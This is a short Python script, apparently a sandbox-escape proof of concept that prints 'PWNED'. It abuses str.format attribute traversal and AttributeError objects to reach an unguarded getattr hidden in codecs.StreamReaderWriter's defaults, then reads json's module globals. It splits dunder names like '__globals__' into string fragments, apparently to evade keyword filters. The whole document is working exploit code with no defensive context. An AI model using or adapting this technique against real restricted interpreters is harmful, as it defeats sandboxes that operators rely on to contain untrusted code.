import json, typing, random
def grab(obj, chain):
    try:
        ("{0" + chain + ".zzz_missing}").format(obj)
    except AttributeError as e:
        return e.obj

rg = grab(typing.cast, ".__glo" + "bals__[s" + "ys].modules[codecs].StreamReaderWriter.__geta" + "ttr__.__defa" + "ults__[0]")
G = rg(json.dumps, "__glo" + "bals__")
print(rg, type(G).__name__)
print("PW" + "NED", "unguarded getattr from codecs' defaults; json globals:", len(G), G["__na" + "me__"])
